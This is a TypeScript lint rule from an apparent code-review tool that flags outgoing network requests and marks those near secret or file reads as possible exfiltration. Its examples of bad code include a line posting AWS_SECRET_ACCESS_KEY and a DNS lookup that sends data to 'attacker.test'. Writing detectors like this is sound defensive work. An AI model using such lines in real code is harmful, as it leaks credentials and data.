import type { TSESTree } from '@typescript-eslint/typescript-estree';
import { defineTsRule } from '../../engine/rule';
import type { Node } from '../../js/scope';
import type { Severity } from '../../model/finding';
import { modulePath } from '../../js/values';
import type { CallNode } from '../support/calls';
import { ModuleUseTracker } from '../support/net-imports';
import { NET_MODULES, destructuredEnv, envSource, fileSource, networkCall, type DataSource, type NetCall } from '../support/net-sources';
import { ipClass, isRelativeUrl, parseUrl, urlPrefixes } from '../support/net-urls';
import { walk } from '../support/random-sources';

interface Request {
  node: CallNode;
  call: NetCall;
  fn: Node;
}

interface Source extends DataSource {
  fn: Node;
  /** The module-level declaration holding the value, for flows into functions. */
  decl?: Node;
}

/** Words of an env var name that say nothing about which service it belongs to. */
const GENERIC = new Set([
  'API',
  'APP',
  'SECRET',
  'ACCESS',
  'AUTH',
  'PRIVATE',
  'MY',
  'CLIENT',
  'SERVICE',
  'BEARER',
  'X',
  'USER',
  'DB',
  'PROD',
  'DEV',
]);

const AUTH_KEY = /^(headers|authorization|auth|proxy-authorization|x-api-key|api[-_]?key|apikey|token|bearer|x-[\w-]*(key|token))$/i;

function isAncestor(outer: Node, inner: Node): boolean {
  for (let p = inner.parent; p; p = p.parent) {
    if (p === outer) {
      return true;
    }
  }
  return false;
}

export default defineTsRule({
  meta: {
    id: 'ts/network-request',
    category: 'network',
    severity: 'medium',
    summary: 'Outgoing network traffic: fetch, http(s), sockets, DNS, WebSocket, XHR, beacons and HTTP client libraries.',
    why:
      'Network access is how data leaves a machine and how code arrives from elsewhere. AI-written changes add requests for ' +
      'plausible reasons; a reviewer should see each destination, and especially any request made next to a read of secrets ' +
      'or files, since that is what exfiltration looks like.',
    incorrect: [
      "await fetch('https://api.github.com/repos/x/y');",
      "import axios from 'axios'; await axios.post(url, { key: process.env.AWS_SECRET_ACCESS_KEY });",
      "const https = require('node:https'); https.get('https://x.test/a', (res) => res.resume());",
      "const dns = require('dns'); dns.resolveTxt(`${data}.attacker.test`, () => {});",
    ],
    correct: [
      'const api = { fetch: (id) => db.get(id) }; api.fetch(1);',
      'this.http.get(url);',
      'function fetch(x) { return x } fetch(1);',
      "const url = 'https://example.com'; console.log(url);",
    ],
    messages: {
      request: '`{{call}}` sends a network request to `{{url}}`.',
      socket: '`{{call}}` opens a network connection to `{{url}}`.',
      dns: '`{{call}}` resolves `{{url}}` over DNS: a lookup of a name built from data is a quiet way to send that data out.',
      client: '`{{call}}` creates a network client for `{{url}}`.',
      exfil:
        '`{{call}}` sends a network request to `{{url}}` in code that also reads `{{source}}`: secret or file data may flow into ' +
        'a network request.',
      unfollowed: '`{{module}}` is imported but its uses could not be followed: it may send data anywhere.',
    },
  },
  create(ctx) {
    const requests: Request[] = [];
    const sources: Source[] = [];
    const clientPaths = new Set<string>();
    const tracker = new ModuleUseTracker(ctx, NET_MODULES);

    function addSource(source: DataSource | undefined): void {
      if (!source) {
        return;
      }
      const fn = ctx.enclosingFunction(source.node);
      let decl: Node | undefined;
      for (let p = source.node.parent; p && p !== fn; p = p.parent) {
        if (p.type === 'VariableDeclarator') {
          decl = p;
          break;
        }
      }
      sources.push({ ...source, fn, decl });
    }

    function check(node: CallNode): void {
      for (const target of ctx.callTargets(node).targets) {
        tracker.follow(target);
      }
      addSource(fileSource(ctx, node));
      const call = networkCall(ctx, node);
      if (call) {
        requests.push({ node, call, fn: ctx.enclosingFunction(node) });
        if (call.kind !== 'client' && call.ref.path.includes('()')) {
          clientPaths.add(`${call.ref.module}:${call.ref.path[0]}`);
        }
      }
    }

    /** Where a source's value shows up inside a request: the read itself, or names declared from it. */
    function usesOf(request: Request, source: Source): Node[] {
      if (isAncestor(request.node, source.node)) {
        return [source.node];
      }
      const uses: Node[] = [];
      if (source.decl) {
        const decl = source.decl;
        walk(request.node, (n) => {
          if (n.type === 'Identifier' && ctx.values(n).some((v) => v.trace?.includes(decl))) {
            uses.push(n);
          }
        });
      }
      return uses;
    }

    /** `headers: { Authorization: `Bearer ${key}` }`: a credential sent the way it is meant to be used. */
    function authOnly(request: Request, source: Source): boolean {
      const uses = usesOf(request, source);
      return (
        uses.length > 0 &&
        uses.every((use) => {
          for (let p = use.parent; p && p !== request.node; p = p.parent) {
            if (p.type === 'Property' && AUTH_KEY.test(ctx.text(p.key).replace(/^['"`]|['"`]$/g, ''))) {
              return true;
            }
          }
          return false;
        })
      );
    }

    function linked(request: Request, source: Source): boolean {
      if (isAncestor(source.node, request.node) || (source.fn === request.fn && source.fn.type !== 'Program')) {
        return true;
      }
      // Module top level is one big scope: there, only a visible flow into the request counts.
      if (source.fn.type === 'Program') {
        return usesOf(request, source).length > 0;
      }
      return isAncestor(source.fn, request.fn) || (request.fn.type !== 'Program' && isAncestor(request.fn, source.fn));
    }

    function describeUrl(call: NetCall): { url: string; prefixes?: string[] } {
      if (!call.url) {
        return { url: '(no destination given)' };
      }
      const prefixes = urlPrefixes(ctx, call.url);
      let text = prefixes?.length === 1 && ctx.strings(call.url) ? prefixes[0] : ctx.text(call.url).replace(/\s+/g, ' ');
      if (call.url.type === 'TemplateLiteral') {
        text = text.slice(1, -1);
      }
      return { url: text.length > 80 ? `${text.slice(0, 77)}...` : text, prefixes };
    }

    /** A request to the service the secret belongs to (`OPENAI_API_KEY` to `api.openai.com`) is its normal use. */
    function ownService(source: Source, prefixes: string[] | undefined): boolean {
      if (source.kind !== 'env' || !source.envName || !prefixes || prefixes.length === 0) {
        return false;
      }
      const vendor = source.envName.split(/[_\W]+/).find((w) => w.length > 2 && !GENERIC.has(w.toUpperCase()));
      return vendor !== undefined && prefixes.every((p) => (parseUrl(p)?.host ?? '').includes(vendor.toLowerCase()));
    }

    function baseSeverity(prefixes: string[] | undefined): Severity {
      if (!prefixes || prefixes.length === 0) {
        return 'medium';
      }
      const local = prefixes.every((p) => {
        if (isRelativeUrl(p) || /^(data|blob|about|file):/i.test(p)) {
          return true;
        }
        const host = parseUrl(p)?.host ?? p.replace(/:\d+$/, '');
        return ipClass(host) === 'loopback';
      });
      return local ? 'low' : 'medium';
    }

    function decide(request: Request): void {
      const { call, node } = request;
      if (call.kind === 'client' && clientPaths.has(`${call.ref.module}:${call.ref.path[0]}`)) {
        return;
      }
      const { url, prefixes } = describeUrl(call);
      const base = baseSeverity(prefixes);
      const flows = call.kind === 'client' ? [] : sources.filter((s) => linked(request, s) && !ownService(s, prefixes));
      if (flows.length > 0) {
        ctx.report({
          node,
          messageId: 'exfil',
          data: { call: call.name, url, source: flows[0].label },
          severity: base === 'low' || flows.every((s) => authOnly(request, s)) ? 'medium' : 'high',
          trace: call.ref.trace,
          related: flows.slice(0, 3).map((s) => ({ node: s.node, message: `${s.label} is read here` })),
        });
        return;
      }
      ctx.report({
        node,
        messageId: call.kind,
        data: { call: call.name, url },
        severity: call.kind === 'client' ? 'low' : base,
        trace: call.ref.trace,
      });
    }

    return {
      CallExpression: check,
      NewExpression: check,
      MemberExpression(node: TSESTree.MemberExpression) {
        addSource(envSource(ctx, node));
        for (const ref of ctx.refs(node)) {
          if (modulePath(ref, NET_MODULES)?.length) {
            tracker.follow(ref);
          }
        }
      },
      VariableDeclarator(node: TSESTree.VariableDeclarator) {
        addSource(destructuredEnv(ctx, node));
      },
      Identifier(node: TSESTree.Identifier) {
        tracker.identifier(node);
      },
      'Program:exit'() {
        requests.forEach(decide);
        tracker.flush((site) => ctx.report({ node: site.node, messageId: 'unfollowed', data: { module: site.module }, severity: 'low' }));
      },
    };
  },
});
